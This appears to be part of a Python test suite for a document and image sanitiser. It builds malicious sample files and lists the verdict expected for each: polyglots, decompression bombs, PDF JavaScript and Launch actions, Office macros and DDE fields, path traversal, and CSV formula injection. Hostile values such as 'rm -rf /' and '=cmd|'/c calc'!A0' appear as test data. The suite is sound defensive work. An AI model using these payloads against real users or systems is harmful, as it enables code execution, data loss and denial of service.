    )
    image("AVIF of 20 frames", "a.avif", CLEANED, lambda: frames("AVIF", 20, speed=10))
    image("HEIF of 20 pictures", "a.heif", CLEANED, lambda: heif(20))
    # Two kinds in one
    image("GIF and JavaScript", "a.js", CLEANED, lambda: saved("GIF") + b"*/=1;//" + SCRIPT)
    image(
        "JPEG and ZIP",
        "a.zip",
        CLEANED,
        lambda: saved("JPEG") + archive({"evil.exe": SECRET}, compression=0),
    )
    image("JPEG and HTML", "a.html", CLEANED, lambda: saved("JPEG", comment=SCRIPT) + SCRIPT)
    image("PNG and PHP", "a.php", CLEANED, lambda: saved("PNG") + b"<?php " + SECRET)
    image("WebP and RAR", "a.rar", CLEANED, lambda: saved("WEBP") + b"Rar!\x1a\x07" + SECRET)
    # Bombs
    image("PNG claiming 60,000 x 60,000", "a.png", many, lambda: png(size=(60_000, 60_000)))
    image("PNG of 49 megapixels", "a.png", many, lambda: saved("PNG", (7000, 7000), "L"))
    image("JPEG claiming 60,000 x 60,000", "a.jpg", many, lambda: jpeg_claiming(60_000, 60_000))
    image("GIF claiming 65,535 x 65,535", "a.gif", many, lambda: gif_claiming(65_535, 1))
    image("GIF with a frame beyond its screen", "a.gif", many, lambda: gif_claiming(1, 65_535))
    image("WebP claiming 16,383 x 16,383", "a.webp", many, lambda: webp_claiming(16_383, 16_383))
    image("AVIF of 36 megapixels", "a.avif", many, lambda: saved("AVIF", (6000, 6000), speed=10))
    image(
        "PNG with a text that unpacks to 200 MB",
        "a.png",
        no,
        lambda: png_with_bomb(b"zTXt", b"Comment\x00\x00"),
    )
    image(
        "PNG with a profile that unpacks to 200 MB",
        "a.png",
        no,
        lambda: png_with_bomb(b"iCCP", b"icc\x00\x00"),
    )
    image(
        "PNG whose pixels unpack to 200 MB", "a.png", CLEANED, lambda: png(data=bytes(200_000_000))
    )
    image("JPEG of 300 scans", "a.jpg", no, jpeg_of_many_scans)
    image(
        "the slowest JPEG that is taken",
        "a.jpg",
        CLEANED,
        lambda: jpeg_of_many_scans(30, 5_000),
        heavy=True,
    )
    image(
        "the largest JPEG that is taken",
        "a.jpg",
        CLEANED,
        lambda: large("JPEG", 7_000, "L", quality=40),
        heavy=True,
    )
    image(
        "the largest PNG that is taken",
        "a.png",
        CLEANED,
        lambda: large("PNG", 3_535, "RGBA", compress_level=3),
        heavy=True,
    )
    image(
        "the largest WebP that is taken",
        "a.webp",
        CLEANED,
        lambda: large("WEBP", 3_000, "RGBA", method=0, quality=40),
        heavy=True,
    )
    image(
        "the largest AVIF that is taken",
        "a.avif",
        CLEANED,
        lambda: large("AVIF", 3_535, speed=10, quality=40),
        heavy=True,
    )
    image(
        "the largest HEIC that is taken",
        "a.heic",
        CLEANED,
        lambda: heif(size=(5_000, 5_000), chroma=420, enc_params={"preset": "ultrafast"}),
        heavy=True,
    )
    # Broken
    for format in ("JPEG", "PNG", "WEBP", "AVIF", "GIF", "HEIF"):
        image(
            f"truncated {format}",
            f"a.{format.lower()}",
            no,
            lambda kind=format: large(kind, 300)[: len(large(kind, 300)) // 2],
        )
    image("JPEG without pixels", "a.jpg", no, lambda: b"\xff\xd8\xff\xe0 truncated")
    image("empty picture", "a.jpg", "empty", lambda: b"")
    image("picture of one byte", "a.jpg", no, lambda: b"\xff")
    image("picture too heavy", "a.jpg", "too_heavy", lambda: bytes(15 * 1024 * 1024 + 1))
    # Something else
    image(
        "SVG with script",
        "a.svg",
        no,
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    )
    image("SVG named JPEG", "a.jpg", no, lambda: b"<?xml version='1.0'?><svg>" + SCRIPT + b"</svg>")
    for format in ("BMP", "TIFF", "ICO", "EPS", "JPEG2000", "TGA", "PPM", "PCX"):
        image(f"{format} named JPEG", "a.jpg", no, lambda kind=format: saved(kind))
    image(
        "PSD named JPEG",
        "a.jpg",
        no,
        lambda: b"8BPS\x00\x01" + bytes(6) + b"\x00\x03" + struct.pack(">II", 9, 9) + bytes(400),
    )
    image("PDF named PNG", "a.png", no, pdf)
    image("HTML named JPEG", "a.jpg", no, lambda: b"<!doctype html>" + SCRIPT)
    image("program named JPEG", "a.jpg", no, lambda: b"MZ" + bytes(900))
    image("film named JPEG", "a.jpg", no, lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(900))
    for label, file_name in NAMES.items():
        image(f"picture: {label}", file_name, CLEANED, jpeg_with_traces)

    damaged, program, files = "damaged", "program_inside", "files_inside"
    unknown, locked, much = "unknown_document", "locked", "too_much"
    # PDF
    document("PDF with XMP, author, a photo's GPS", "a.pdf", CLEANED, pdf_with_traces)
    document("PDF with people everywhere", "a.pdf", CLEANED, pdf_with_traces_everywhere)
    for kind in ("Text", "Highlight", "StrikeOut", "Popup", "Ink", "Stamp"):
        document(
            f"PDF with a note: {kind}",
            "a.pdf",
            "comments",
            lambda kind=kind: pdf_with_annotation(
                Name(f"/{kind}"), Contents=String(SECRET.decode())
            ),
        )
    document("PDF that calls home when opened", "a.pdf", CLEANED, pdf_that_calls_home)
    document("PDF and HTML", "a.html", CLEANED, lambda: pdf() + SCRIPT)
    document("PDF locked against printing only", "a.pdf", CLEANED, lambda: pdf_locked(""))
    document(
        "PDF with script on opening",
        "a.pdf",
        program,
        lambda: pdf_with_root(OpenAction=Dictionary(**SCRIPT_ACTION)),
    )
    document(
        "PDF with script on leaving",
        "a.pdf",
        program,
        lambda: pdf_with_root(AA=Dictionary(WC=Dictionary(**SCRIPT_ACTION))),
    )
    document(
        "PDF with named scripts",
        "a.pdf",
        program,
        lambda: pdf_with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([])))),
    )
    document("PDF with escaped names", "a.pdf", program, pdf_with_escaped_names)
    document("PDF with a script in packed objects", "a.pdf", program, pdf_with_hidden_script)
    document(
        "PDF that starts a program",
        "a.pdf",
        program,
        lambda: pdf_with_link(S=Name.Launch, F=String("cmd.exe")),
    )
    document(
        "PDF form that sends itself",
        "a.pdf",
        program,
        lambda: pdf_with_link(S=Name.SubmitForm, F=String("https://x.example")),
    )
    document(
        "PDF with an XFA form",
        "a.pdf",
        program,
        lambda: pdf_with_root(AcroForm=Dictionary(XFA=String("<xdp/>"))),
    )
    document(
        "PDF with Flash",
        "a.pdf",
        program,
        lambda: pdf_with_root(X=Dictionary(Subtype=Name.RichMedia)),
    )
    document("PDF with an attachment", "a.pdf", files, pdf_with_attachment)
    document(
        "PDF that opens a file of the network",
        "a.pdf",
        files,
        lambda: pdf_with_link(S=Name.GoToR, F=String("\\\\server\\x"), D=String("x")),
    )
    document("PDF whose page lies elsewhere", "a.pdf", files, pdf_with_data_elsewhere)
    for how, pack in (
        ("FlateDecode", zlib.compress),
        ("ASCII85Decode", lambda photo: base64.a85encode(photo) + b"~>"),
        ("ASCIIHexDecode", lambda photo: photo.hex().encode() + b">"),
    ):
        document(
            f"PDF with a photo packed twice, {how}",
            "a.pdf",
            CLEANED,
            lambda how=how, pack=pack: pdf_with_packed_photo(how, pack(jpeg_with_traces())),
        )
    document(
        "PDF with a photo packed in an old way",
        "a.pdf",
        "traces",
        lambda: pdf_with_packed_photo("LZWDecode", jpeg_with_traces()),
    )
    document(
        "PDF with a photo packed wrongly",
        "a.pdf",
        damaged,
        lambda: pdf_with_packed_photo("ASCII85Decode", b"\xff"),
    )
    document(
        "PDF with a photo that unpacks to 200 MB",
        "a.pdf",
        much,
        lambda: pdf_with_packed_photo("FlateDecode", zlib.compress(bytes(200_000_000))),
    )
    for extension in ("tiff", "webp", "wdp"):
        document(
            f"DOCX with a picture of the kind {extension}",
            "a.docx",
            "picture_inside",
            lambda kind=extension: docx({f"word/media/image1.{kind}": b"picture"}),
        )
    document(
        "PDF with a link to somebody's disk",
        "a.pdf",
        "files_inside",
        lambda: pdf_with_annotation(
            Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///C:/Users/Samira/b.pdf"))
        ),
    )
    document("PDF with a password", "a.pdf", locked, lambda: pdf_locked("secret"))
    document("PDF with a signature", "a.pdf", "signed", pdf_signed)
    document("truncated PDF", "a.pdf", damaged, lambda: pdf_with_traces()[:-200])
    document("PDF of its first line", "a.pdf", damaged, lambda: b"%PDF-1.7 text")
    document(
        "PDF nested 5,000,000 times",
        "a.pdf",
        damaged,
        lambda: b"%PDF-1.4\n1 0 obj\n" + b"[" * 5_000_000,
    )
    document("PDF whose objects unpack to 200 MB", "a.pdf", damaged, pdf_bomb, heavy=True)
    document("PDF of 800,000 broken objects", "a.pdf", much, pdf_of_rubbish, heavy=True)
    document("PDF of 400,000 objects", "a.pdf", much, pdf_of_many_objects, heavy=True)
    # Word
    document("DOCX with traces of people and programs", "a.docx", CLEANED, docx_with_traces)
    document(
        "DOCX with a signature",
        "a.docx",
        "signed",
        lambda: docx({"_xmlsignatures/origin.sigs": b""}),
    )
    document(
        "ODT with a signature",
        "a.odt",
        "signed",
        lambda: odf(parts={"META-INF/documentsignatures.xml": "<s/>"}),
    )
    document("DOCX with people everywhere", "a.docx", CLEANED, docx_with_people)
    document("XLSX with people everywhere", "a.xlsx", CLEANED, xlsx_with_people)
    document("PPTX with people everywhere", "a.pptx", CLEANED, pptx_with_people)
    document("ODT with people everywhere", "a.odt", CLEANED, odt_with_people)
    for what, change in CHANGES.items():
        document(
            f"DOCX with {what}", "a.docx", "comments", lambda text=change: docx_with_change(text)
        )
    for name, comment in COMMENTS.items():
        make = {"w": docx, "x": xlsx, "p": pptx}[name[0]]
        document(
            f"comments in {name}",
            "a.docx",
            "comments",
            lambda make=make, name=name, comment=comment: make({name: comment}),
        )
    document(
        "DOCX with comments under another name",
        "a.docx",
        "comments",
        lambda: docx(
            {
                "word/_rels/document.xml.rels": relations("comments", "said.xml"),
                "word/said.xml": "<w:comments><w:comment/></w:comments>",
            }
        ),
    )
    for what, noted in CHANGES_OF_OPEN_DOCUMENT.items():
        document(
            f"ODT with {what}",
            "a.odt",
            "comments",
            lambda noted=noted: odf(parts={"content.xml": f"<d>{noted}</d>"}),
        )
    document("DOCX and HTML", "a.html", CLEANED, docx_with_html_behind)
    document(
        "DOCX with a link to the web",
        "a.docx",
        CLEANED,
        lambda: docx_with_relation("hyperlink", "https://x.example"),
    )
    document("DOCX with macros", "a.docx", program, lambda: docx({"word/vbaProject.bin": OLE}))
    document(
        "DOCX with macros under another name", "a.docx", files, lambda: docx({"word/data.bin": OLE})
    )
    document(
        "DOCM named DOCX",
        "a.docx",
        program,
        lambda: docx(
            {
                "[Content_Types].xml": content_types(
                    "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            }
        ),
    )
    document(
        "DOCX whose macros a relation names",
        "a.docx",
        program,
        lambda: docx_with_relation("vbaProject", "data.bin", "Internal"),
    )
    document(
        "DOCX with ActiveX",
        "a.docx",
        program,
        lambda: docx_with_relation("control", "x/1.xml", "Internal"),
    )
    document(
        "DOCX with a program",
        "a.docx",
        program,
        lambda: docx({"word/media/image1.png": b"MZ" + bytes(99)}),
    )
    document("DOCX with JavaScript", "a.docx", program, lambda: docx({"word/evil.js": "alert(1)"}))
    document(
        "DOCX with a template of the network",
        "a.docx",
        files,
        lambda: docx_with_relation("attachedTemplate", "https://x.example/t.dotm"),
    )
    document(
        "DOCX with a picture of the network",
        "a.docx",
        files,
        lambda: docx_with_relation("image", "https://x.example/p.png"),
    )
    document(
        "DOCX with a link to a file",
        "a.docx",
        files,
        lambda: docx_with_relation("hyperlink", "file:///c:/x.exe"),
    )
    document(
        "DOCX with a link to Windows' helper",
        "a.docx",
        files,
        lambda: docx_with_relation("hyperlink", "ms-msdt:/id"),
    )
    document(
        "DOCX with an OLE object",
        "a.docx",
        files,
        lambda: docx({"word/embeddings/oleObject1.bin": OLE}),
    )
    document(
        "DOCX with HTML inside",
        "a.docx",
        files,
        lambda: docx_with_relation("aFChunk", "x.xml", "Internal"),
    )
    document("DOCX with a web page", "a.docx", files, lambda: docx({"word/page.html": SCRIPT}))
    document(
        "DOCX with a DDE field", "a.docx", files, lambda: docx_with_field(" DDEAUTO c:\\\\x.exe ")
    )
    document(
        "DOCX with a DDE field in pieces",
        "a.docx",
        files,
        lambda: docx_with_field("D", "D", "&#69;", "AUTO x"),
    )
    document(
        "DOCX with a simple DDE field",
        "a.docx",
        files,
        lambda: docx({"word/header1.xml": word_text('<w:fldSimple w:instr=" dde x"/>')}),
    )
    document("DOCX with a hidden field", "a.docx", files, lambda: docx_with_field("QUOTE 68 68 69"))
    document(
        "DOCX that reads a file",
        "a.docx",
        files,
        lambda: docx_with_field("INCLUDETEXT c:\\\\secret.txt"),
    )
    document("DOCX with a marked GIF", "a.docx", CLEANED, docx_with_marked_picture)
    document(
        "DOCX with UTF-16 inside",
        "a.docx",
        damaged,
        lambda: docx({"word/document.xml": word_text().encode("utf-16")}),
    )
    document(
        "DOCX with UTF-7 inside",
        "a.docx",
        damaged,
        lambda: docx({"word/document.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}),
    )
    document(
        "DOCX with a billion laughs", "a.docx", damaged, lambda: docx({"word/document.xml": LAUGHS})
    )
    document(
        "DOCX with broken XML",
        "a.docx",
        damaged,
        lambda: docx({"word/document.xml": "<a><instrText>"}),
    )
    # Excel, OpenDocument
    document(
        "XLSX with a link to another table",
        "a.xlsx",
        files,
        lambda: xlsx(
            {
                "xl/externalLinks/_rels/e.xml.rels": relations(
                    "externalLinkPath", "file:///c:/x.xlsx", "External"
                )
            }
        ),
    )
    document(
        "XLSX with a DDE link",
        "a.xlsx",
        files,
        lambda: xlsx(
            {
                "xl/externalLinks/e.xml": "<x:externalLink><x:ddeLink ddeService='cmd'/></x:externalLink>"
            }
        ),
    )
    document(
        "XLSX with old macros",
        "a.xlsx",
        program,
        lambda: xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}),
    )
    document(
        "XLSX with old macros under another name",
        "a.xlsx",
        program,
        lambda: xlsx(
            {"[Content_Types].xml": content_types("application/vnd.ms-excel.macrosheet+xml")}
        ),
    )
    document(
        "XLSX with a database connection",
        "a.xlsx",
        files,
        lambda: xlsx({"xl/_rels/workbook.xml.rels": relations("connections", "connections.xml")}),
    )
    document("ODT with traces", "a.odt", CLEANED, odt_with_traces)
    document(
        "ODT with Basic",
        "a.odt",
        program,
        lambda: odf(parts={"Basic/Standard/Module1.xml": "<m/>"}),
    )
    document(
        "ODT with Python", "a.odt", program, lambda: odf(parts={"Scripts/python/evil.py": "x"})
    )
    document(
        "ODT that listens to events", "a.odt", program, lambda: odf(parts={"content.xml": EVENT})
    )
    document(
        "ODT with a script inside",
        "a.odt",
        program,
        lambda: odf(parts={"content.xml": "<d><o:script\n>x</o:script></d>"}),
    )
    document(
        "ODT with a picture of the network",
        "a.odt",
        files,
        lambda: odf(parts={"content.xml": "<d><draw:image xlink:href='https://x.example/p'/></d>"}),
    )
    document(
        "ODT with a file of the network",
        "a.odt",
        files,
        lambda: odf(parts={"content.xml": "<d><draw:object xlink:href='../../x'/></d>"}),
    )
    document(
        "ODS with DDE",
        "a.ods",
        files,
        lambda: odf(
            "spreadsheet",
            {"content.xml": "<d><office:dde-source office:dde-application='soffice'/></d>"},
        ),
    )
    document(
        "ODT with a password",
        "a.odt",
        locked,
        lambda: odf(parts={"META-INF/manifest.xml": "<m><manifest:encryption-data/></m>"}),
    )
    document("old DOC named DOCX", "a.docx", "old_office", lambda: OLE)
    # Archives
    document("ZIP bomb", "a.docx", much, zip_bomb)
    document("ZIP bomb in tables inside", "a.docx", much, bomb_in_bomb)
    document("archives in archives", "a.docx", files, bombs_nested)
    document("ZIP bomb of overlapping parts", "a.docx", damaged, overlapping_bomb)
    document("ZIP bomb with false sizes", "a.docx", damaged, bomb_with_false_sizes)
    document("ZIP of 300,000 entries", "a.docx", much, archive_of_many_entries)
    for name, (start, crumb) in CRUMBS.items():
        document(
            f"DOCX with a {name} in crumbs",
            "a.docx",
            damaged,
            lambda name=name, start=start, crumb=crumb: docx_with_picture_in_crumbs(
                f"image.{name}", start, crumb
            ),
            heavy=True,
        )
    document("the slowest XLSX that is taken", "a.xlsx", CLEANED, most_of_all, heavy=True)
    document("DOCX slow to read", "a.docx", much, slow_xml)
    document("the slowest DOCX that is taken", "a.docx", CLEANED, most_xml, heavy=True)
    document("the largest XLSX that is taken", "a.xlsx", CLEANED, most_unpacked, heavy=True)
    document(
        "DOCX with paths that lead out",
        "a.docx",
        damaged,
        lambda: docx({"../../etc/cron.d/x.xml": "<x/>"}),
    )
    document("DOCX with absolute paths", "a.docx", damaged, lambda: docx({"/etc/x.xml": "<x/>"}))
    document("DOCX with paths of Windows", "a.docx", damaged, lambda: docx({"..\\x.xml": "<x/>"}))
    document(
        "DOCX with a turned name inside",
        "a.docx",
        damaged,
        lambda: docx({"word/x\u202elmx.xml": "<x/>"}),
    )
    document("DOCX with a part twice", "a.docx", damaged, doubled_part)
    document("DOCX with a password on each part", "a.docx", locked, locked_archive)
    document("DOCX packed with LZMA", "a.docx", damaged, lambda: docx(compression=zipfile.ZIP_LZMA))
    document(
        "two kinds of Office in one", "a.docx", unknown, lambda: docx({"xl/workbook.xml": "<x/>"})
    )
    document("ZIP named DOCX", "a.docx", unknown, lambda: archive({"a.txt": "x"}))
    document(
        "JAR named DOCX",
        "a.docx",
        unknown,
        lambda: archive({"META-INF/MANIFEST.MF": "x", "a.class": "x"}),
    )
    document("truncated DOCX", "a.docx", damaged, lambda: docx()[:-40])
    # Text
    document("HTML named CSV", "a.csv", unknown, lambda: b"\xef\xbb\xbf  <!DOCTYPE html>" + SCRIPT)
    document("SVG named text", "a.txt", unknown, lambda: b"<svg>" + SCRIPT + b"</svg>")
    document("CSV with a formula", "a.csv", "formula_inside", lambda: b"a;b\n1;=cmd|'/c calc'!A0\n")
    document(
        "CSV with a quoted formula", "a.csv", "formula_inside", lambda: b'a,b\n1," @SUM(1+1)"\n'
    )
    document(
        "CSV with a formula behind a sign",
        "a.csv",
        "formula_inside",
        lambda: b"-2+3+cmd|' /c calc'!A0,1\n",
    )
    for place, before in (
        ("an invisible sign", "\u200b"),
        ("a turned text", "\u202e"),
        ("a no-break space", "\xa0"),
    ):
        document(
            f"CSV with a formula behind {place}",
            "a.csv",
            "formula_inside",
            lambda before=before: f"a,{before}=1+1\n".encode(),
        )
    document(
        "CSV with another file's cell behind a sign",
        "a.csv",
        "formula_inside",
        lambda: b"a;b\n1;+'\\\\srv\\[x.xls]S'!A1\n",
    )
    document("CSV with a wide formula", "a.csv", "formula_inside", lambda: "a,＝1+1\n".encode())
    document(
        "CSV of a million empty cells",
        "a.csv",
        CLEANED,
        lambda: b"nom,prix\r\n" + b"\t \t\t \t\r\n" * 250_000,
        heavy=True,
    )
    most_text = 3 * 1024 * 1024
    kinds = {
        "spaces": " ",
        "lines": "\n",
        "ligatures": "\ufdfa",
        "marks out of order": "\u0300\u0316",
    }
    for what, sign in kinds.items():
        text = sign * (most_text // len(sign.encode()))
        document(
            f"CSV full of {what}", "a.csv", CLEANED, lambda text=text: text.encode(), heavy=True
        )
    document("CSV of 15 MB", "a.csv", much, lambda: b" ;" * 7_500_000, heavy=True)
    document("markup behind an invisible sign", "a.txt", unknown, lambda: "\u200b<html>".encode())
    document("CSV with turned text and terminal marks", "a.csv", CLEANED, turned_text)
    document("UTF-16 text", "a.txt", "not_utf8", lambda: "texte".encode("utf-16"))
    document("Latin-1 text", "a.txt", "not_utf8", lambda: "été".encode("latin-1"))
    document("text with NUL", "a.txt", unknown, lambda: b"text\x00text")
    document("PostScript named text", "a.txt", unknown, lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n")
    document("RTF named text", "a.txt", unknown, lambda: b"{\\rtf1\\object}")
    document("mail archive named text", "a.txt", unknown, lambda: b"MIME-Version: 1.0\n\n" + SCRIPT)
    document("shell script named text", "a.txt", unknown, lambda: b"#!/bin/sh\nrm -rf /\n")
    document("program named PDF", "a.pdf", unknown, lambda: b"MZ" + bytes(900))
    document("empty document", "a.pdf", "empty", lambda: b"")
    document("document of one byte", "a.pdf", unknown, lambda: b"%")
    document("document too heavy", "a.pdf", "too_heavy", lambda: bytes(25 * 1024 * 1024 + 1))
    document("photo sent as a document", "a.pdf", unknown, jpeg_with_traces)
    for label, file_name in NAMES.items():
        document(f"document: {label}", file_name, CLEANED, pdf_with_traces)
    return rows


KINDS = every_kind()
